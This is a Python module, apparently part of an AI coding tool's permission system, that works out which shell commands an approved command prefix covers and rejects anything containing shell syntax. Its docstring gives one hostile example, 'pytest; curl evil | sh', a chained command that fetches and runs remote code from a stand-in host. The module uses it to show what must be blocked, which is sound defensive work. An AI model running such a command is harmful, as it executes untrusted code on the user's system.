""" "Always allow this command prefix": which shell commands an approved prefix covers.

A prefix is the command's first word, or its first two for tools whose second word picks the
action (`git status`, `npm test`, `python -m pytest`). A command with shell syntax (`;`, `&&`,
pipes, redirections, `$(...)`, backquotes, globs of commands) never gets a prefix and never
matches one: `pytest; curl evil | sh` must be asked about, whatever was allowed before.
"""

from __future__ import annotations

import shlex

# The second word of these names the action: allowing `git status` must not allow `git push`.
_SUBCOMMAND_TOOLS = frozenset(
    {
        "git",
        "npm",
        "pnpm",
        "yarn",
        "bun",
        "cargo",
        "go",
        "uv",
        "pip",
        "pip3",
        "poetry",
        "docker",
        "kubectl",
        "make",
        "just",
        "dotnet",
        "gradle",
        "mvn",
        "hatch",
        "tox",
        "nox",
    }
)
_PYTHONS = frozenset({"python", "python3"})
_SHELL_SYNTAX = frozenset(";&|`$<>(){}\n\r\\*?[]!#~")


def _words(command: str) -> list[str] | None:
    if not command.strip() or any(c in _SHELL_SYNTAX for c in command):
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    if not words or "=" in words[0]:  # FOO=1 cmd: an environment change, ask each time
        return None
    return words


def command_prefix(command: str) -> tuple[str, ...] | None:
    """The prefix the user may allow for this command, or None (then only "once")."""
    words = _words(command)
    if words is None:
        return None
    first = words[0]
    if first in _PYTHONS and len(words) >= 3 and words[1] == "-m":
        return tuple(words[:3])
    if first in _SUBCOMMAND_TOOLS:
        if len(words) < 2 or words[1].startswith("-"):
            return None  # `git -c x=y ...`: options before the action, no safe prefix
        return tuple(words[:2])
    return (first,)


def matches(command: str, prefix: tuple[str, ...]) -> bool:
    words = _words(command)
    return words is not None and tuple(words[: len(prefix)]) == prefix


def shown(prefix: tuple[str, ...]) -> str:
    return shlex.join(prefix)
